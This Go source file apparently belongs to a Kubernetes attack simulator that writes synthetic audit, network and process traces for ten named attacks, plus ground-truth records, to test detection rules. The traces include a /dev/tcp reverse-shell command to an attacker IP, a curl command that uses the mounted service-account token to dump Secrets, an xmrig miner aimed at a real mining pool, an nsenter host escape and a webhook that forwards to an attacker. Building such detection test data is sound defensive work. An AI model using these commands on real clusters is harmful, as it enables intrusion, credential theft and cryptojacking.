package sim

import (
	"strconv"
	"time"
)

// Attacks, injected by name after the learning period. Each leaves the
// audit, flow and process traces a real one leaves, and a ground-truth
// record naming what happened, the entities involved and the alert rules it
// should trigger.

// AttackNames lists the attacks Generate can inject, in the order they
// happen when several are injected.
func AttackNames() []string {
	return []string{
		"stolen-token", "secrets-dump", "exec-reverse-shell", "privileged-pod", "cluster-admin-binding",
		"crypto-miner", "lateral-movement", "untrusted-image", "csr-persistence", "malicious-webhook",
	}
}

// attackRules are the alert rule ids each attack should trigger.
var attackRules = map[string][]string{
	"stolen-token":          {"rbac.denied-burst"},
	"secrets-dump":          {"secret.access"},
	"exec-reverse-shell":    {"exec.into-pod", "exec.suspicious-command"},
	"privileged-pod":        {"workload.risky-spec"},
	"cluster-admin-binding": {"rbac.escalation"},
	"crypto-miner":          {"net.novel-egress", "workload.first-seen"},
	"lateral-movement":      {"net.novel-connection"},
	"untrusted-image":       {"image.untrusted-registry"},
	"csr-persistence":       {"rbac.escalation"},
	"malicious-webhook":     {"persistence.change"},
}

var attackDescriptions = map[string]string{
	"stolen-token":          "a workload's service account token used from outside the cluster to enumerate its permissions: self-subject rules reviews and a burst of denied requests",
	"secrets-dump":          "an operator's service account, allowed to read every Secret, lists and reads Secrets across namespaces from its compromised pod",
	"exec-reverse-shell":    "kubectl exec into an application pod running bash -i redirected to a TCP connection to the attacker",
	"privileged-pod":        "a pod created with a privileged container, the host's PID namespace and the host's root filesystem mounted",
	"cluster-admin-binding": "a leaked CI token creates a service account and binds it to cluster-admin (persistence)",
	"crypto-miner":          "a leaked CI token creates a new Deployment running a miner that connects to a mining pool",
	"lateral-movement":      "a compromised front end connects to services and ports it never contacted",
	"untrusted-image":       "a pod running an image from a registry never used in the cluster",
	"csr-persistence":       "a non-node identity creates a client CertificateSigningRequest for a privileged identity, approves it itself, and uses the certificate",
	"malicious-webhook":     "a MutatingWebhookConfiguration sending every pod creation to an external URL, created by a non-system identity",
}

// AttackTruth is one injected attack, as written to the ground-truth
// stream (one JSON object per line).
type AttackTruth struct {
	Time        time.Time         `json:"time"`
	End         time.Time         `json:"end"`
	Attack      string            `json:"attack"`
	Description string            `json:"description"`
	Rules       []string          `json:"rules"`
	Entities    map[string]string `json:"entities"`
}

type attack struct {
	name string
	at   int64
	// Planned objects.
	wl   *workload
	pod  *pod
	run  func(e *engine, s *source, a *attack)
	ents map[string]string
	end  int64
}

const (
	uaAttackerKubectl = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
	uaCurl            = "curl/8.5.0"
	miningPool        = "pool.supportxmr.com"
	miningPoolIP      = "141.94.96.144"
	untrustedImage    = "registry.tools-mirror.example/ops/netshoot:v0.14"
)

// planAttacks spreads the attacks over the window after the learning
// period and plans the objects they create.
func (w *world) planAttacks() {
	n := len(w.cfg.Attacks)
	if n == 0 {
		return
	}
	r := newRNG(w.cfg.Seed, "attacks")
	slot := (w.end - w.learnEnd) / int64(n)
	for i, name := range w.cfg.Attacks {
		a := &attack{name: name, ents: map[string]string{}}
		a.at = w.learnEnd + int64(i)*slot + int64(float64(slot)*(0.1+0.5*r.float()))
		a.end = a.at
		w.attacks = append(w.attacks, a)
		switch name {
		case "stolen-token":
			a.run = runStolenToken
		case "secrets-dump":
			a.run = runSecretsDump
		case "exec-reverse-shell":
			a.run = runReverseShell
		case "privileged-pod":
			// carol creates it, in a namespace where she may.
			w.planBarePod(&r, a, pick(&r, w.people[2].namespaces), "node-debugger", "docker.io/library/alpine", "3.20",
				[]string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "--", "sh"}, true)
			a.run = runPrivilegedPod
		case "cluster-admin-binding":
			a.run = runClusterAdminBinding
			ks := w.namespaces[3]
			sa := w.newSA(&r, ks, "kube-state-metrics-sync", a.at)
			w.crb("kube-state-metrics-sync", "cluster-admin", a.at+int64(900*time.Millisecond), r.uuid(), subject("ServiceAccount", sa.name, ks.name))
		case "crypto-miner":
			w.planMiner(&r, a)
			a.run = runMiner
		case "lateral-movement":
			a.run = runLateral
		case "untrusted-image":
			ns := pick(&r, w.people[1].namespaces) // bob's
			w.planBarePod(&r, a, ns, "netshoot", "registry.tools-mirror.example/ops/netshoot", "v0.14",
				[]string{"/bin/bash", "-c", "sleep infinity"}, false)
			a.run = runUntrustedImage
		case "csr-persistence":
			a.run = runCSR
			name := "csr-" + r.suffix(5)
			a.ents["csr"] = name
			w.extra = append(w.extra, obj{"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
				"metadata": w.meta(name, "", a.at, r.uuid()),
				"spec": obj{"signerName": "kubernetes.io/kube-apiserver-client", "usages": strs(sl("client auth")), "expirationSeconds": 31536000,
					"username": w.ciDeployer.username(), "groups": strs(saGroups("ci")),
					"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K"},
				"status": obj{"conditions": list{obj{"type": "Approved", "status": "True", "reason": "AutoApproved", "message": "approved",
					"lastUpdateTime": timeVal(a.at + int64(2*time.Second)), "lastTransitionTime": timeVal(a.at + int64(2*time.Second))}}}})
		case "malicious-webhook":
			a.run = runWebhook
			w.extra = append(w.extra, w.webhookObject(a.at, r.uuid()))
		}
	}
}

// kindPod is a pod without a controller.
const kindPod = "Pod"

func (w *world) planBarePod(r *rng, a *attack, ns *namespace, name, repo, tag string, cmd []string, risky bool) {
	wl := &workload{kind: kindPod, role: roleAttack, ns: ns, name: name, replicas: 1, created: a.at, attack: a.name,
		labels: map[string]string{"run": name}, privileged: risky, hostRoot: risky, hostPID: risky}
	wl.sa = w.findSA(ns.name, "default")
	wl.uid = r.uuid()
	wl.containers = []containerSpec{{name: name, repo: repo, tag: tag, command: cmd, cwd: "/", cpu: "10m", mem: "32Mi"}}
	w.workloads = append(w.workloads, wl)
	p := w.newPod(r, wl, name, a.at+int64(2*time.Second), true)
	a.wl, a.pod = wl, p
	a.ents["namespace"], a.ents["pod"] = ns.name, name
}

func (w *world) planMiner(r *rng, a *attack) {
	ns := w.apps[r.intn(len(w.apps))]
	wl := &workload{kind: kindDeployment, role: roleAttack, ns: ns, name: "metrics-collector", replicas: 1, created: a.at, attack: a.name,
		labels: map[string]string{"app": "metrics-collector"}}
	wl.sa = w.findSA(ns.name, "default")
	wl.uid = r.uuid()
	wl.containers = []containerSpec{{name: "collector", repo: "docker.io/xmrig/xmrig", tag: "6.22.2",
		command: []string{"/xmrig/xmrig", "-o", "stratum+tcp://" + miningPool + ":3333", "-u", "4" + r.hex(40), "--donate-level", "0", "-t", "4"},
		cwd:     "/xmrig", cpu: "3", mem: "512Mi"}}
	wl.egress = []external{{miningPool, miningPoolIP, 3333}}
	w.workloads = append(w.workloads, wl)
	rev := w.newRevision(r, wl, a.at+int64(40*time.Millisecond))
	rev.version = "6.22.2"
	rev.replicas = 1
	p := w.newPod(r, wl, rev.name+"-"+r.suffix(5), rev.created+int64(25*time.Millisecond), true)
	p.rev = rev
	a.wl, a.pod = wl, p
	a.ents["namespace"], a.ents["deployment"], a.ents["pod"], a.ents["destination"] = ns.name, wl.name, p.name, miningPoolIP+":3333"
}

func (w *world) webhookObject(t int64, uid string) obj {
	return obj{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
		"metadata": w.meta("pod-policy.acme-platform.io", "", t, uid),
		"webhooks": list{obj{"name": "pods.pod-policy.acme-platform.io", "admissionReviewVersions": strs(sl("v1")),
			"clientConfig":  obj{"url": "https://" + attackerIP + ":8443/mutate"},
			"failurePolicy": "Ignore", "sideEffects": "None", "timeoutSeconds": 5, "reinvocationPolicy": "Never",
			"rules": list{obj{"apiGroups": strs(sl("")), "apiVersions": strs(sl("v1")), "operations": strs(sl("CREATE")), "resources": strs(sl("pods")), "scope": "*"}}}}}
}

// attackSource runs an attack's script at its time.
func (e *engine) startAttack(a *attack) {
	e.script(e.w.cfg.Seed^hash64("attack/"+a.name), func(s *source) {
		a.run(e, s, a)
	})
}

// attacker is the identity of a leaked CI token used from outside.
func (e *engine) leakedCI() *actor {
	a := *e.act.ci
	a.ip, a.ua = attackerIP, uaAttackerKubectl
	return &a
}

func (a *attack) mark(t int64) {
	if t > a.end {
		a.end = t
	}
}

func runStolenToken(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	// The token of an application that may edit its namespace.
	var victim *pod
	for _, ns := range w.apps {
		if ns.api.overGranted {
			if victim = e.livePod(r, ns.api, a.at); victim != nil {
				break
			}
		}
	}
	if victim == nil {
		victim = e.livePod(r, w.apps[0].api, a.at)
	}
	if victim == nil {
		return
	}
	ns := victim.w.ns.name
	who := boundActor(victim.w.sa, podTokens(w, victim), victim, attackerIP, uaAttackerKubectl, victim.w.apiReason)
	a.ents["user"], a.ents["sourceIP"], a.ents["namespace"], a.ents["pod"] = who.username, attackerIP, ns, victim.name
	t := a.at
	req := func(c call, lat time.Duration) {
		c.who = who
		e.request(s, &c, t, int64(lat))
		t += int64(lat) + r.dur(40*time.Millisecond, 900*time.Millisecond)
		a.mark(t)
	}
	req(call{verb: "get", uri: []byte("/api?timeout=32s"), reason: reasonDiscovery}, 3*time.Millisecond)
	req(call{verb: "get", uri: []byte("/apis?timeout=32s"), reason: reasonDiscovery}, 4*time.Millisecond)
	// kubectl auth can-i --list, in three namespaces.
	for range 3 {
		req(call{verb: "create", code: 201, uri: rSSRR.path("", "", ""), ref: rSSRR.ref("", "", ""), reason: reasonBasicUser}, 3*time.Millisecond)
	}
	probes := []struct {
		verb string
		r    res
		ns   string
	}{
		{"list", rSecrets, "kube-system"}, {"list", rPods, "kube-system"}, {"list", rNodes, ""}, {"list", rNamespaces, ""},
		{"list", rCRs, ""}, {"list", rCRBs, ""}, {"list", rSecrets, ""}, {"list", rPods, ""}, {"list", rDeployments, "kube-system"},
		{"list", rSAs, "kube-system"}, {"create", rPods, "kube-system"}, {"list", rRBs, ns}, {"list", rRoles, ns},
		{"create", rCRBs, ""}, {"list", rConfigMaps, "kube-system"}, {"list", rDaemonSets, "kube-system"}, {"list", rMWCs, ""},
		{"list", rCSRs, ""}, {"get", rSecrets, "default"}, {"list", rPVs, ""},
	}
	for _, other := range w.apps {
		if other.name != ns {
			probes = append(probes, struct {
				verb string
				r    res
				ns   string
			}{"list", rSecrets, other.name})
		}
		if len(probes) > 34 {
			break
		}
	}
	for _, pr := range probes {
		name := ""
		if pr.verb == "get" {
			name = "default-token"
		}
		uri := pr.r.uri(pr.ns, name, "", "limit=500")
		if pr.verb != "list" {
			uri = pr.r.path(pr.ns, name, "")
		}
		req(call{verb: pr.verb, uri: uri, ref: pr.r.ref(pr.ns, name, ""), forbid: true, status: forbidden(who.username, pr.verb, pr.r, pr.ns, name, "")}, 2*time.Millisecond)
	}
	// What the token may do: its own namespace.
	req(call{verb: "list", uri: rPods.uri(ns, "", "", "limit=500"), ref: rPods.ref(ns, "", "")}, 6*time.Millisecond)
	req(call{verb: "list", uri: rSecrets.uri(ns, "", "", "limit=500"), ref: rSecrets.ref(ns, "", "")}, 5*time.Millisecond)
	req(call{verb: "list", uri: rConfigMaps.uri(ns, "", "", "limit=500"), ref: rConfigMaps.ref(ns, "", "")}, 5*time.Millisecond)
}

func runSecretsDump(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	op := e.livePod(r, w.backupOp, a.at)
	if op == nil {
		return
	}
	who := e.podActor(op)
	ua := *who
	ua.ua = uaCurl
	a.ents["user"], a.ents["namespace"], a.ents["pod"], a.ents["sourceIP"] = who.username, op.w.ns.name, op.name, op.ipString()
	t := a.at
	// In the container: curl with the mounted token.
	sh := e.spawn(s, t, op, 0, nil, 0, "/", "/bin/sh")
	t += r.dur(2*time.Second, 8*time.Second)
	e.spawn(s, t, op, 0, sh, 0, "/", "/usr/bin/curl", "-sk", "-H", "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
		"https://kubernetes.default.svc/api/v1/secrets")
	e.tcp(s, t+r.dur(time.Millisecond, 3*time.Millisecond), podPeer(op), apiServerPeer, apiServerPort, "kubernetes", "default")
	t += r.dur(10*time.Millisecond, 30*time.Millisecond)
	e.request(s, &call{who: &ua, verb: "list", uri: rSecrets.path("", "", ""), ref: rSecrets.ref("", "", "")}, t, r.dur(30*time.Millisecond, 90*time.Millisecond))
	t += int64(2 * time.Second)
	for i, ns := range w.namespaces {
		if i > 12 {
			break
		}
		e.request(s, &call{who: &ua, verb: "list", uri: rSecrets.path(ns.name, "", ""), ref: rSecrets.ref(ns.name, "", "")}, t, r.dur(4*time.Millisecond, 15*time.Millisecond))
		t += r.dur(300*time.Millisecond, 2*time.Second)
	}
	for _, name := range []struct{ ns, name string }{{"kube-system", "bootstrap-token-abcdef"}, {"ci", "deployer-token"}, {"cert-manager", "cert-manager-webhook-ca"}} {
		e.request(s, &call{who: &ua, verb: "get", uri: rSecrets.path(name.ns, name.name, ""), ref: rSecrets.ref(name.ns, name.name, "")}, t, r.dur(2*time.Millisecond, 6*time.Millisecond))
		t += r.dur(500*time.Millisecond, 3*time.Second)
	}
	a.mark(t)
}

func runReverseShell(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	var target *pod
	for _, ns := range w.apps {
		if target = e.livePod(r, ns.web, a.at); target != nil && target.alive(a.at+int64(20*time.Minute)) {
			break
		}
		target = nil
	}
	if target == nil {
		return
	}
	// An SRE's kubeconfig, stolen: cluster-admin from an unknown address.
	person := w.people[3]
	who := *e.act.people[3]
	who.ip = attackerIP
	ns := target.w.ns.name
	c := target.w.containers[0]
	cmd := "bash -i >& /dev/tcp/" + attackerIP + "/" + strconv.Itoa(attackerC2Port) + " 0>&1"
	a.ents["user"], a.ents["sourceIP"], a.ents["namespace"], a.ents["pod"], a.ents["command"], a.ents["destination"] =
		person.name, attackerIP, ns, target.name, cmd, attackerIP+":"+strconv.Itoa(attackerC2Port)
	uri := rPods.uri(ns, target.name, "exec", "command=bash&command=-c&command="+queryEscape(cmd)+"&container="+c.name+"&stderr=true&stdout=true")
	dur := r.dur(8*time.Minute, 15*time.Minute)
	t := a.at
	e.longRequest(s, &call{who: &who, verb: "get", uri: uri, ref: rPods.ref(ns, target.name, "exec"), level: levelRequestResponse},
		t, r.dur(20*time.Millisecond, 60*time.Millisecond), dur)
	t += r.dur(80*time.Millisecond, 200*time.Millisecond)
	outer := e.spawn(s, t, target, 0, nil, 0, c.cwd, "/bin/bash", "-c", cmd)
	t += r.dur(2*time.Millisecond, 10*time.Millisecond)
	inner := &proc{p: target, ci: 0, pid: e.newPID(target.node, r), argv: []string{"/bin/bash", "-i"}, cwd: c.cwd, start: t, parent: outer,
		rule: "Redirect STDOUT/STDIN to Network Connection in Container", priority: "Notice", evtType: "dup2",
		output: "Redirect stdout/stdin to network connection", tags: []string{"T1059", "container", "maturity_stable", "mitre_execution", "network", "process"}}
	e.execEvent(s, t, inner)
	e.tcp(s, t+r.dur(time.Millisecond, 3*time.Millisecond), podPeer(target), worldPeer(attackerIP), attackerC2Port, "", "")
	for _, argv := range [][]string{{"/usr/bin/id"}, {"/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, {"/usr/bin/env"}} {
		t += r.dur(5*time.Second, 60*time.Second)
		e.execEvent(s, t, &proc{p: target, ci: 0, pid: e.newPID(target.node, r), argv: argv, cwd: c.cwd, start: t, parent: inner})
	}
	a.mark(a.at + dur)
}

func queryEscape(s string) string {
	const hex = "0123456789ABCDEF"
	var b []byte
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9', c == '-', c == '_', c == '.', c == '~':
			b = append(b, c)
		case c == ' ':
			b = append(b, '+')
		default:
			b = append(b, '%', hex[c>>4], hex[c&15])
		}
	}
	return string(b)
}

func runPrivilegedPod(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	p := a.pod
	person := w.people[2]
	who := e.act.people[2]
	a.ents["user"], a.ents["image"] = person.name, p.image(0)
	req, resp := w.podBodies(p)
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rPods.uri(p.w.ns.name, "", "", "fieldManager=kubectl-run"), ref: rPods.ref(p.w.ns.name, p.name, ""),
		level: levelRequestResponse, reqObj: req, respObj: resp, reason: person.reasonIn(p.w.ns.name), ann: pssAnnotation}, p.created, r.dur(5*time.Millisecond, 12*time.Millisecond))
	a.mark(p.running)
}

func runClusterAdminBinding(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	who := e.leakedCI()
	var crb obj
	for _, b := range w.crbs {
		if b["metadata"].(obj)["name"] == "kube-state-metrics-sync" {
			crb = b
		}
	}
	sa := w.findSA("kube-system", "kube-state-metrics-sync")
	a.ents["user"], a.ents["sourceIP"], a.ents["binding"], a.ents["subject"] = who.username, attackerIP, "kube-state-metrics-sync", sa.username()
	t := a.at
	saObj := jsonObj(obj{"apiVersion": "v1", "kind": "ServiceAccount", "metadata": obj{"name": sa.name, "namespace": sa.ns}})
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rSAs.uri(sa.ns, "", "", "fieldManager=kubectl-create"), ref: rSAs.ref(sa.ns, sa.name, ""),
		level: levelRequestResponse, reqObj: saObj, respObj: saObj}, t, r.dur(3*time.Millisecond, 8*time.Millisecond))
	t += int64(900 * time.Millisecond)
	body := jsonObj(crb)
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rCRBs.uri("", "", "", "fieldManager=kubectl-create"), ref: rCRBs.ref("", "kube-state-metrics-sync", ""),
		level: levelRequestResponse, reqObj: body, respObj: body}, t, r.dur(3*time.Millisecond, 8*time.Millisecond))
	// A token for the new account, for later.
	t += r.dur(2*time.Second, 10*time.Second)
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rSAs.path(sa.ns, sa.name, "token"), ref: rSAs.ref(sa.ns, sa.name, "token")}, t, r.dur(3*time.Millisecond, 8*time.Millisecond))
	a.mark(t)
}

func runMiner(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	wl, p := a.wl, a.pod
	who := e.leakedCI()
	a.ents["user"], a.ents["sourceIP"], a.ents["image"] = who.username, attackerIP, p.image(0)
	ns := wl.ns.name
	body := jsonObj(w.workloadObject(wl))
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rDeployments.uri(ns, "", "", "fieldManager=kubectl-create"), ref: rDeployments.ref(ns, wl.name, ""),
		level: levelRequestResponse, reqObj: body, respObj: body}, a.at, r.dur(4*time.Millisecond, 9*time.Millisecond))
	rs := jsonObj(w.replicaSetObject(p.rev))
	e.request(s, &call{who: e.act.controller["deployment-controller"], verb: "create", code: 201, uri: rReplicaSets.path(ns, "", ""), ref: rReplicaSets.ref(ns, p.rev.name, ""),
		level: levelRequestResponse, reqObj: rs, respObj: rs}, p.rev.created-int64(4*time.Millisecond), int64(3*time.Millisecond))
	// The pool: a connection kept open, re-established every few minutes,
	// after a DNS lookup.
	e.add(&traffic{client: wl, ext: &wl.egress[0], mean: 3 * time.Minute, dnsP: 1}, p.running+int64(2*time.Second), s.rng.fork(7), nil)
	a.mark(p.running + int64(2*time.Second))
}

func runLateral(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	var from *pod
	var home *namespace
	for _, ns := range w.apps {
		if from = e.livePod(r, ns.web, a.at); from != nil {
			home = ns
			break
		}
	}
	if from == nil {
		return
	}
	a.ents["namespace"], a.ents["pod"], a.ents["sourceIP"] = home.name, from.name, from.ipString()
	t := a.at
	var targets []string
	for _, ns := range w.apps {
		if ns == home {
			continue
		}
		for _, wl := range []*workload{ns.db, ns.cache, ns.api} {
			if wl == nil || wl.svc == nil {
				continue
			}
			dst := e.livePod(r, wl, t)
			if dst == nil {
				continue
			}
			port := wl.svc.ports[0].port
			t = e.dns(s, t, from, wl.svc.name+"."+ns.name+".svc."+clusterDomain, false)
			e.tcp(s, t+r.dur(time.Millisecond, 5*time.Millisecond), podPeer(from), podPeer(dst), port, wl.svc.name, ns.name)
			targets = append(targets, dst.ipString()+":"+strconv.Itoa(port))
			t += r.dur(2*time.Second, 15*time.Second)
			break
		}
		if len(targets) >= 4 {
			break
		}
	}
	// And etcd on the control plane.
	cp := w.nodes[0]
	e.tcp(s, t, podPeer(from), peer{ip: ipString(cp.ip), ident: identityRemoteNode, label: "reserved:remote-node"}, 2379, "", "")
	targets = append(targets, ipString(cp.ip)+":2379")
	a.ents["destinations"] = joinComma(targets)
	a.mark(t)
}

func joinComma(l []string) string {
	out := ""
	for i, s := range l {
		if i > 0 {
			out += ","
		}
		out += s
	}
	return out
}

func runUntrustedImage(e *engine, s *source, a *attack) {
	w, r := e.w, &s.rng
	p := a.pod
	person := w.people[1]
	who := e.act.people[1]
	a.ents["user"], a.ents["image"], a.ents["registry"] = person.name, p.image(0), "registry.tools-mirror.example"
	req, resp := w.podBodies(p)
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rPods.uri(p.w.ns.name, "", "", "fieldManager=kubectl-run"), ref: rPods.ref(p.w.ns.name, p.name, ""),
		level: levelRequestResponse, reqObj: req, respObj: resp, reason: person.reasonIn(p.w.ns.name), ann: pssAnnotation}, p.created, r.dur(5*time.Millisecond, 12*time.Millisecond))
	a.mark(p.running)
}

func runCSR(e *engine, s *source, a *attack) {
	r := &s.rng
	who := e.leakedCI()
	name := a.ents["csr"]
	a.ents["user"], a.ents["sourceIP"] = who.username, attackerIP
	var csr obj
	for _, o := range e.w.extra {
		if o["kind"] == "CertificateSigningRequest" {
			csr = o
		}
	}
	body := jsonObj(csr)
	t := a.at
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rCSRs.path("", "", ""), ref: rCSRs.ref("", name, ""),
		level: levelRequestResponse, reqObj: body, respObj: body}, t, r.dur(3*time.Millisecond, 8*time.Millisecond))
	t += r.dur(time.Second, 3*time.Second)
	e.request(s, &call{who: who, verb: "update", uri: rCSRs.path("", name, "approval"), ref: rCSRs.ref("", name, "approval"),
		level: levelRequestResponse, reqObj: body, respObj: body}, t, r.dur(3*time.Millisecond, 8*time.Millisecond))
	t += r.dur(20*time.Millisecond, 80*time.Millisecond)
	e.request(s, &call{who: e.act.controller["certificate-controller"], verb: "update", uri: rCSRs.path("", name, "status"), ref: rCSRs.ref("", name, "status"),
		level: levelRequestResponse}, t, r.dur(3*time.Millisecond, 8*time.Millisecond))
	t += r.dur(5*time.Second, 30*time.Second)
	e.request(s, &call{who: who, verb: "get", uri: rCSRs.path("", name, ""), ref: rCSRs.ref("", name, ""), level: levelRequestResponse}, t, r.dur(2*time.Millisecond, 5*time.Millisecond))
	a.mark(t)
}

func runWebhook(e *engine, s *source, a *attack) {
	r := &s.rng
	who := e.leakedCI()
	a.ents["user"], a.ents["sourceIP"], a.ents["webhook"], a.ents["url"] = who.username, attackerIP, "pod-policy.acme-platform.io", "https://"+attackerIP+":8443/mutate"
	var wh obj
	for _, o := range e.w.extra {
		if o["kind"] == "MutatingWebhookConfiguration" {
			wh = o
		}
	}
	body := jsonObj(wh)
	e.request(s, &call{who: who, verb: "create", code: 201, uri: rMWCs.uri("", "", "", "fieldManager=kubectl-client-side-apply"), ref: rMWCs.ref("", "pod-policy.acme-platform.io", ""),
		level: levelRequestResponse, reqObj: body, respObj: body}, a.at, r.dur(4*time.Millisecond, 10*time.Millisecond))
	a.mark(a.at)
}
